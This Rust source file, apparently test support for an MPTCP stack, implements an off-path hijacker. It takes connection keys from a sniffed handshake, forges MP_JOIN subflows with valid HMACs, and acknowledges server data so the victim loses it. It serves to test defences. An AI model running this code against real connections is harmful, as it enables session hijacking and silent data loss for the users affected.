//! An off-path attacker that knows the keys of a connection from its handshake (RFC 8684 section 3.1).
//!
//! The hijacker joins the connection by MP_JOIN. It acknowledges all data that the server sends on this subflow,
//! at the subflow level and at the data level. Thus the server does not retransmit the data to the victim.

use core::net::{IpAddr, SocketAddr};
use std::collections::BTreeMap;

use braid_wire::mptcp::{Capable, Dss, Join, MptcpOption, WireDsn};
use braid_wire::tcp::{self, Flags};
use braid_wire::{Seq32, ip};
use hmac::{Hmac, KeyInit, Mac};
use sha2::{Digest, Sha256};

/// The keys of a connection: the opener's and the listener's.
pub type Keys = (u64, u64);

/// The maximum number of subflows that a hijacker remembers. 1,024 is a guess: more than a test opens. If there
/// are more, the hijacker forgets the subflow of the lowest address; this choice is simple and deterministic.
const MAX_SUBFLOWS: usize = 1_024;

/// A subflow that a hijacker opens.
#[derive(Debug, Default)]
struct HijackedSubflow {
    keys: Keys,
    nonce: u32,
    /// The next sequence numbers of the hijacker and of the server; `None` before the SYN/ACK.
    next: Option<(Seq32, Seq32)>,
    /// The data sequence number after the last mapped byte that arrived.
    data_ack: Option<WireDsn>,
}

/// An attacker that knows the keys of connections.
#[derive(Debug, Default)]
pub struct Hijacker {
    subflows: BTreeMap<SocketAddr, HijackedSubflow>,
    /// The number of third ACKs sent. It equals the number of joins that the server has answered.
    pub joins_tried: u64,
    /// Payload bytes received, including retransmitted ones.
    pub bytes_received: u64,
}

impl Hijacker {
    /// Returns whether the hijacker has opened a subflow from `local`.
    pub fn owns(&self, local: SocketAddr) -> bool {
        self.subflows.contains_key(&local)
    }

    /// Returns a SYN with MP_JOIN from `local` to `server`, for the connection with these keys.
    pub fn join(
        &mut self,
        keys: Keys,
        (local, server): (SocketAddr, SocketAddr),
        (address_id, nonce): (u8, u32),
    ) -> Vec<u8> {
        let mut syn = tcp::Repr::new(local.port(), server.port(), Flags::SYN);
        syn.window = u16::MAX;
        syn.options.mss = Some(1_400);
        syn.options.window_scale = Some(7);
        let join = Join::Syn {
            backup: false,
            address_id,
            token: token(keys.1),
            nonce,
        };
        syn.options.mptcp.push(MptcpOption::Join(join));
        if self.subflows.len() >= MAX_SUBFLOWS {
            self.subflows.pop_first();
        }
        let subflow = HijackedSubflow {
            keys,
            nonce,
            ..HijackedSubflow::default()
        };
        self.subflows.insert(local, subflow);
        packet((local.ip(), server.ip()), &syn, &[])
    }

    /// Returns the answer to a packet. A SYN/ACK gets the third ACK; a packet with payload gets an
    /// acknowledgement of all data. Returns `None` if the packet is not for the hijacker or needs no answer.
    pub fn answer(&mut self, received: &[u8]) -> Option<Vec<u8>> {
        let (header, segment) = ip::Repr::parse(received).ok()?;
        let (tcp, payload) = tcp::Repr::parse(segment).ok()?;
        let local = SocketAddr::new(header.dst, tcp.dst_port);
        let subflow = self.subflows.get_mut(&local)?;
        let mut ack = tcp::Repr::new(tcp.dst_port, tcp.src_port, Flags::ACK);
        ack.window = u16::MAX;
        if let Some(Join::SynAck { nonce, .. }) = tcp.options.join() {
            // A SYN takes one sequence number.
            subflow.next = Some((tcp.ack, tcp.seq.add(1)));
            let nonces = [subflow.nonce.to_be_bytes(), nonce.to_be_bytes()].concat();
            // RFC 8684 section 3.2: the third ACK carries the leftmost 160 bits of the HMAC.
            let mut hmac = [0; 20];
            hmac.copy_from_slice(&hmac_sha256(subflow.keys, &nonces)[..20]);
            let join = MptcpOption::Join(Join::Ack { hmac });
            ack.options.mptcp.push(join);
            self.joins_tried += 1;
        } else {
            if payload.is_empty() {
                return None;
            }
            self.bytes_received += payload.len() as u64;
            subflow.on_payload(&tcp, payload.len());
            ack.options.mptcp.push(MptcpOption::Dss(Dss {
                data_ack: subflow.data_ack,
                ..Dss::default()
            }));
        }
        (ack.seq, ack.ack) = subflow.next?;
        Some(packet((header.dst, header.src), &ack, &[]))
    }
}

impl HijackedSubflow {
    /// Advances the acknowledgements past received payload.
    fn on_payload(&mut self, tcp: &tcp::Repr, len: usize) {
        let end = tcp.seq.add(len as u32);
        if let Some((_, server_next)) = &mut self.next
            && server_next.before(end)
        {
            *server_next = end;
        }
        let mapping = tcp.options.dss().and_then(|dss| dss.mapping);
        if let Some(mapping) = mapping {
            self.data_ack = Some(match mapping.dsn {
                WireDsn::Four(n) => WireDsn::Four(n.wrapping_add(mapping.len.into())),
                WireDsn::Eight(n) => WireDsn::Eight(n.wrapping_add(mapping.len.into())),
            });
        }
    }
}

/// Returns the keys in the MP_CAPABLE of a third ACK. Any observer of the link can read them.
pub fn keys_in(tcp: &tcp::Repr) -> Option<Keys> {
    match *tcp.options.capable()? {
        Capable::Ack {
            sender_key,
            receiver_key,
            ..
        }
        | Capable::Data {
            sender_key,
            receiver_key,
            ..
        } => Some((sender_key, receiver_key)),
        _ => None,
    }
}

/// Returns the HMAC under the keys of sender and receiver (RFC 8684 sections 3.2, 3.4.1).
pub fn hmac_sha256((sender, receiver): Keys, message: &[u8]) -> [u8; 32] {
    // HMAC pads a key shorter than its block with zeros.
    let mut key = [0; 64];
    key[..8].copy_from_slice(&sender.to_be_bytes());
    key[8..16].copy_from_slice(&receiver.to_be_bytes());
    let mut mac = Hmac::<Sha256>::new(&key.into());
    mac.update(message);
    mac.finalize().into_bytes().into()
}

/// Returns the token of the connection whose listener has this key (RFC 8684 section 3.1).
fn token(key: u64) -> u32 {
    let hash = Sha256::digest(key.to_be_bytes());
    u32::from_be_bytes([hash[0], hash[1], hash[2], hash[3]])
}

/// Returns an IP packet with correct checksums.
pub fn packet((src, dst): (IpAddr, IpAddr), tcp: &tcp::Repr, payload: &[u8]) -> Vec<u8> {
    let mut header = vec![0; tcp.header_len()];
    tcp.emit(&mut header);
    tcp::fill_checksum(src, dst, &mut header, &[payload]);
    let ip = ip::Repr {
        src,
        dst,
        protocol: ip::PROTO_TCP,
        payload_len: header.len() + payload.len(),
        hop_limit: 64,
        traffic_class: 0,
    };
    let mut bytes = vec![0; ip.header_len()];
    ip.emit(&mut bytes);
    [&bytes[..], &header, payload].concat()
}
